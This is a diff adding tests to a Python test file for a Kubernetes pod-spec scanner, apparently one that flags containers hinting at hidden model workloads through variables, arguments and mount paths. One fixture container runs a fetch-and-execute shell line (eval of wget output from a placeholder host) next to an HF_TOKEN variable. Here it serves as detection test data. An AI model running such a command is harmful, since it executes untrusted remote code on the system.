@@ -9,10 +9,10 @@ import yaml
 from hypothesis import given
 from hypothesis import strategies as st
 
-from modelsteward.workloads import quiet
+from modelsteward.workloads import quiet, unknown
 from modelsteward.workloads.extract import extract
 from modelsteward.workloads.finders import disguises, routes, surroundings
-from modelsteward.workloads.podspec import Pod
+from modelsteward.workloads.podspec import Container, Pod
 
 CASES = Path(__file__).parents[1] / "cases"
 #: What containers are made of here: some of each is looked at twice, some isn't.
@@ -150,3 +150,36 @@ def test_a_plain_container_is_quiet(container: dict[str, Any]) -> None:
 )
 def test_what_brings_a_command_or_has_another_shape_is_not_quiet(container: dict[str, Any]) -> None:
     assert not quiet.is_quiet(Pod({"containers": [container]}, "spec", "default").containers[0])
+
+
+def container(**fields: Any) -> Container:
+    return Pod({"containers": [{"image": "nginx", **fields}]}, "spec", "default").containers[0]
+
+
+@pytest.mark.parametrize("part", [*surroundings.PARTS, *routes.PARTS, unknown.PART])
+def test_a_container_with_a_variable_that_a_finder_waits_for_is_not_quiet(part: str) -> None:
+    assert not quiet.is_quiet(container(env=[{"name": "PORT"}, {"name": f"X{part}X", "value": "1"}]))
+
+
+@pytest.mark.parametrize("mark", [*disguises.MARKS, *unknown.PARTS])
+def test_a_container_with_a_word_that_a_finder_waits_for_is_not_quiet(mark: str) -> None:
+    assert not quiet.is_quiet(container(args=["--verbose", f"x{mark}x"]))
+
+
+@pytest.mark.parametrize(
+    "place", [*surroundings.MODEL_MOUNTS, *surroundings.CODE_PLACES, "/x/.cache/huggingface"]
+)
+def test_a_container_with_a_mount_that_a_finder_waits_for_is_not_quiet(place: str) -> None:
+    assert not quiet.is_quiet(container(volumeMounts=[{"name": "v", "mountPath": place}]))
+
+
+def test_a_hubs_variable_of_a_plain_container_makes_what_is_opaque_beside_it_count() -> None:
+    spec = {
+        "containers": [
+            {"image": "nginx", "env": [{"name": "HF_TOKEN", "value": "x"}]},
+            {"image": "alpine", "command": ["sh", "-c", 'eval "$(wget -qO- x)"']},
+        ]
+    }
+    found = read({"apiVersion": "v1", "kind": "Pod", "spec": spec})
+    assert found.signals
+    assert all(one.in_context for one in found.signals)
